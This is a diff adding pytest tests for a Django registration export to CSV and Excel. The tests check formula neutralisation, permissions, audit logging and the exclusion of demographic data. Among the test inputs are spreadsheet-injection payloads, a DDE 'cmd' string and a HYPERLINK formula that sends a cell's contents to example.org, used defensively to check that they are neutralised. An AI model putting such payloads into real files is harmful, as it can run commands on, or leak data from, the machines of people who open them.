@@ -1,0 +1,221 @@
+"""Exports: what Excel makes of them, who may take them, and that somebody writes it down."""
+
+import csv
+import io
+import tracemalloc
+from collections.abc import Iterator
+from datetime import UTC, datetime
+from typing import Any
+
+import pytest
+from django.contrib.admin.models import LogEntry
+from django.contrib.auth.models import Permission
+from django.test import Client
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from registrations.exports import COLUMNS, neutralised, table_of, write_csv, write_xlsx
+from registrations.models import Demographics, Registration
+from somosnlp.accounts.models import User
+from tests.factories.accounts import UserFactory
+from tests.factories.events import EditionFactory
+from tests.factories.registrations import RegistrationFactory, UniversityFactory
+
+LIST = "admin:registrations_registration_changelist"
+EXPORT = "admin:registrations_registration_export"
+FORMULA = '=HYPERLINK("http://example.org?x="&A1;"clic")'
+
+WHEN = datetime(2026, 3, 1, 9, 5)  # noqa: DTZ001 (as a cell has it)
+
+
+@pytest.fixture
+def organiser(client: Client) -> User:
+    user = UserFactory(email="organiza@example.org", is_staff=True, is_superuser=True)
+    client.force_login(user)
+    return user
+
+
+def csv_of(response: Any) -> list[list[str]]:
+    content = b"".join(response.streaming_content)
+    assert content.startswith(b"\xef\xbb\xbf")
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
+
+
+def cells(response: Any) -> list[list[Any]]:
+    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    return [[cell.value for cell in row] for row in book.active.iter_rows()]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        FORMULA,
+        "=1+1",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "＝1+1",
+        "＋1",
+        "－1",
+        "＠a",
+        "+",
+        "-",
+        "+57=1",
+        "+1-2",
+        "-1-2",
+        "+57 300 123 45 67 89 01 23",
+        "+57 300 123 4567\n=1+1",
+        "-A1",
+    ],
+)
+def test_what_begins_like_a_formula_is_neutralised(text: str) -> None:
+    assert neutralised(text) == f"'{text}"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "Lucía",
+        "+57 300 123 4567",
+        "+573001234567",
+        "+57 (300) 123-45-67",
+        "+1.555.010.0199",
+        "-5",
+        "-3,5",
+        "+3.25",
+        "5",
+        "a=b",
+        "ana@example.org",
+        "O'Higgins",
+        "<5",
+    ],
+)
+def test_phones_numbers_and_names_stay_as_they_are(text: str) -> None:
+    assert neutralised(text) == text
+
+
+def test_csv_has_bom_semicolons_and_every_cell_quoted() -> None:
+    lines = b"".join(write_csv([["País", 'Ñandú; "sí"', "a,=1+1", None, 3, WHEN]]))
+    assert lines == ('\ufeff"País";"Ñandú; ""sí""";"a,=1+1";"";"3";"2026-03-01 09:05:00"\r\n'.encode())
+
+
+def test_xlsx_types_texts_as_texts() -> None:
+    texts = [FORMULA, "+57 300 123 4567", "-5", "@SUM(A1)", "#N/A", "\tx", "a\x07b", ""]
+    with write_xlsx([texts, [WHEN, 7, None]], "hoja") as file:
+        sheet: Any = load_workbook(file).active
+    first, second = sheet.iter_rows()
+    assert [cell.value for cell in first] == [*texts[:6], "ab", None]
+    assert {cell.data_type for cell in first[:-1]} == {"s"}
+    assert [cell.value for cell in second[:3]] == [WHEN, 7, None]
+
+
+def test_files_of_many_rows_take_no_more_memory() -> None:
+    def peak(count: int) -> int:
+        def rows() -> Iterator[list[str]]:
+            for number in range(count):
+                yield [f"Persona {number}", f"persona{number}@example.org"]
+
+        tracemalloc.start()
+        write_xlsx(rows(), "hoja").close()
+        for _line in write_csv(rows()):
+            pass
+        highest = tracemalloc.get_traced_memory()[1]
+        tracemalloc.stop()
+        return highest
+
+    peak(10)
+    assert peak(8_000) < 1.5 * peak(800)
+
+
+@pytest.mark.django_db
+def test_row_says_it_in_words_and_dates_in_the_zone_of_the_heading() -> None:
+    at = datetime(2026, 3, 1, 4, 30, 59, 7, tzinfo=UTC)
+    RegistrationFactory(
+        user__name="Begoña Oñate",
+        user__email="bego@example.org",
+        user__discord="bego",
+        countries=["PE", "ES"],
+        languages=["es", "xx"],
+        university=UniversityFactory(name="Universidad A"),
+        registered_at=at,
+    )
+    heads, row = table_of(Registration.objects.all(), "America/Bogota")
+    found = dict(zip(heads, row, strict=True))
+    assert found["nombre"] == "Begoña Oñate"
+    assert found["países"] == "Perú, España"
+    assert found["idiomas"] == "español, xx"
+    assert (found["nivel de PLN"], found["estado"]) == ("Básico", "inscrita")
+    assert found["universidad"] == "Universidad A"
+    assert found["confirmada (hora de Bogotá)"] == datetime(2026, 2, 28, 23, 30, 59)  # noqa: DTZ001 (as a cell has it)
+    assert found["cancelada (hora de Bogotá)"] is None
+
+
+def test_no_demographics_leave_by_name() -> None:
+    names = {field.name for field in Demographics._meta.get_fields()} | {"pronouns", "demographics"}
+    assert not [column for column in COLUMNS if names & set(column.split("__"))]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_button_exports_what_the_filters_show_and_logs_it(client: Client, organiser: User, kind: str) -> None:
+    edition = EditionFactory()
+    RegistrationFactory.create_batch(2, edition=edition, countries=["PE"], user__name=FORMULA)
+    RegistrationFactory(edition=edition, countries=["CO"])
+    response = client.post(f"{reverse(EXPORT)}?country=PE", {"formato": kind})
+    rows = csv_of(response) if kind == "csv" else cells(response)
+    assert [row[0] for row in rows[1:]] == [f"'{FORMULA}" if kind == "csv" else FORMULA] * 2
+    assert f".{kind}" in response["Content-Disposition"]
+    entry = LogEntry.objects.get()
+    assert entry.user == organiser
+    assert entry.object_repr == f"2 inscripciones exportadas ({kind.upper()})"
+    assert entry.change_message == "country=PE"
+
+
+@pytest.mark.django_db
+def test_action_exports_the_chosen_rows(client: Client, organiser: User) -> None:
+    chosen = RegistrationFactory.create_batch(2)
+    RegistrationFactory()
+    keys = [one.pk for one in chosen]
+    response = client.post(reverse(LIST), {"action": "export_csv", "_selected_action": keys})
+    assert sorted(row[1] for row in csv_of(response)[1:]) == sorted(one.user.email for one in chosen)
+    response = client.post(
+        reverse(LIST), {"action": "export_xlsx", "_selected_action": keys[:1], "select_across": "1"}
+    )
+    assert len(cells(response)) == 1 + 3
+
+
+@pytest.mark.django_db
+def test_export_is_for_who_may_and_never_by_a_get(client: Client, organiser: User) -> None:
+    assert client.get(reverse(EXPORT)).status_code == 405
+    reader = UserFactory(is_staff=True)
+    reader.user_permissions.add(Permission.objects.get(codename="view_registration"))
+    client.force_login(reader)
+    RegistrationFactory()
+    page = client.get(reverse(LIST))
+    assert page.status_code == 200
+    assert "exportar" not in page.content.decode().lower()
+    assert client.post(reverse(EXPORT), {"formato": "csv"}).status_code == 403
+    assert LogEntry.objects.count() == 0
+
+
+@pytest.mark.django_db
+def test_strange_filters_lead_back_to_the_list(client: Client, organiser: User) -> None:
+    response = client.post(f"{reverse(EXPORT)}?no_such_field=1", {"formato": "csv"})
+    assert response.status_code == 302
+    assert LogEntry.objects.count() == 0
+    assert client.post(f"{reverse(EXPORT)}?paso=nada", {"formato": "csv"}).status_code == 200
+
+
+@pytest.mark.django_db
+def test_groups_of_organisers_and_teams_may_export() -> None:
+    from django.contrib.auth.models import Group
+
+    from somosnlp.accounts.services.groups import sync_groups
+
+    sync_groups()
+    may = Group.objects.filter(permissions__codename="export_registration")
+    assert set(may.values_list("name", flat=True)) == {"Organización", "Equipos"}
